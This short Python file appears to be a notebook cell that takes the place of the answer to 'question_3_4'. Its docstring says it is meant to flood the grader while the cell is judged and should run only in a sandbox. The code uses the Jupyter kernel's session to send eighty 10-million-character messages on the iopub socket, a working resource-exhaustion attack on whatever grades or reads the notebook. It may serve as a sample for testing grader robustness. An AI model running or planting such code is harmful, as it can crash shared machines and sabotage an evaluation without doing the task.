"""Publishes messages while it is judged, when nobody reads them, so that they heap up.

Only inside the walls: it could harm the machine.
"""


# %% instead of question_3_4-answer
def question_3_4():
    kernel = get_ipython().kernel
    message = kernel.session.msg("stream", {"name": "stdout", "text": "x" * 10**7})
    parts = [b"stream", *kernel.session.serialize(message)]
    for _ in range(80):
        kernel.iopub_socket.send_multipart(parts)
